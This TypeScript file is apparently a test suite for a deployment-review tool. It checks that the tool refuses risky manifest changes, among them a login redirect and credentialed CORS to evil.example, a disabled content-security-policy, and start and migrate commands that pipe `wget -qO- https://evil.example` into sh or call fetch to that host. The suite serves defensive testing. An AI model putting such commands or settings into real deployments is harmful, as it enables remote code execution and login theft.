import { spec } from '@slipway/release/sample'
import type { Attack } from '../estate.ts'

const host = { host: 'bank' }

/** An app of another team on the host, which lets this one have its help pages there. */
const shared = { ...spec, team: 'finance', expose: { ...host, accepts: ['shop/web'] } }
const help = { host: 'bank', accepts: ['finance/ledger'] }

/**
 * Words of a spec whose manifests `check` takes: the review has to say what they do, at a level that somebody reads.
 */
const rows: readonly (readonly [name: string, rule: string, more: object, before?: object, beside?: object])[] = [
  [
    'leads people who sign in to a host of its own',
    'requests',
    { expose: { ...host, redirects: { '/login': 'https://login.evil.example/' } } },
  ],
  [
    'lets pages of somebody else call with the logins of visitors',
    'caller-checks',
    { expose: { ...host, cors: { origins: ['https://evil.example'], credentials: true } } },
  ],
  [
    'takes away what keeps scripts of others out',
    'requests',
    { expose: { ...host, headers: { response: { 'content-security-policy': false } } } },
  ],
  ['lets an app of another team call it', 'word-given', { expose: host, accepts: ['finance/ledger'] }],
  [
    'runs code that no environment has tried, in an image that all have',
    'starts',
    { expose: host, command: ['sh', '-c', 'wget -qO- https://evil.example | sh'] },
  ],
  [
    'does so before a release',
    'starts',
    { expose: host, migrate: { command: ['node', '-e', 'fetch("https://evil.example")'] } },
  ],
  [
    'takes /login of another team, where it may have its help pages',
    'host-claim',
    { expose: { ...help, path: ['/help', '/login'] } },
    { expose: { ...help, path: '/help' } },
    shared,
  ],
]

export default rows.map(
  ([name, rule, more, before = { expose: host }, beside]): Attack => ({
    name: `${name}, as a change without a risk`,
    why: 'an approver reads levels, and the words themselves are cut short where they are long',
    async run(estate) {
      if (beside !== undefined) estate.put('apps/ledger/app.ts', beside)
      estate.put('apps/web/app.ts', { ...spec, ...before })
      await estate.gen()
      estate.commit('a host')
      estate.put('apps/web/app.ts', { ...spec, ...more })
      await estate.gen()
      await estate.passes()
      estate.commit('a pull request')
      await estate.refuses(rule, ['review', '--base', 'HEAD^', '--head', 'HEAD', '--fail-on', 'medium'])
    },
  }),
)
